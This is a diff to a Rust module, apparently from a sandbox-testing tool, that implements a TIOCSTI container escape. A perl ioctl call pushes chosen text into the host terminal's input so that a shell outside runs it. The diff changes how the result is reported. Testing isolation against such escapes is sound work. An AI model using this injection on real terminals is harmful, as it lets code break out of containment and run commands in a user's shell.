@@ -2,7 +2,7 @@
 //! it as soon as the container is gone. ioctl(TIOCSTI) has no safe binding, so
 //! perl makes the call.
 
-use std::process::Command;
+use std::process::{Command, Stdio};
 
 use nix::errno::Errno;
 
@@ -18,27 +18,35 @@ pub const ATTACK: Attack = Attack {
     run,
 };
 
-/// Byte by byte; the exit status is the errno.
+/// Byte by byte; says the errno, or 0.
 const PERL: &str = r#"
-    for (split //, "$ARGV[0]\n") { ioctl(STDIN, 0x5412, $_) or exit($!+0) }
+    for (split //, "$ARGV[0]\n") {
+        ioctl(STDIN, 0x5412, $_) or do { print $!+0; exit }
+    }
+    print 0
 "#;
 
 fn run(arguments: &Arguments) -> Try {
     let text = arguments.text("TEXT")?;
-    let perl = Command::new("perl").args(["-e", PERL, text]).status();
-    let Ok(status) = perl else {
+    let perl = Command::new("perl")
+        .args(["-e", PERL, text])
+        .stdin(Stdio::inherit())
+        .output();
+    let Ok(perl) = perl else {
         return Ok(Outcome::CannotTry(
             "the container has no perl: use --rootfs with one that has".into(),
         ));
     };
-    Ok(match status.code() {
-        Some(0) => Outcome::Done(
+    Ok(match String::from_utf8_lossy(&perl.stdout).parse() {
+        Ok(0) => Outcome::Done(
             "typed. Look outside: does the shell there read it?".into(),
         ),
-        Some(errno) => {
-            let errno = Errno::from_raw(errno);
-            Outcome::refused("ioctl(0, TIOCSTI)", errno)
+        Ok(errno) => {
+            Outcome::refused("ioctl(0, TIOCSTI)", Errno::from_raw(errno))
         }
-        None => Outcome::CannotTry("perl was killed".into()),
+        Err(_) => Outcome::CannotTry(format!(
+            "perl failed: {}",
+            String::from_utf8_lossy(&perl.stderr).trim_end().escape_debug()
+        )),
     })
 }
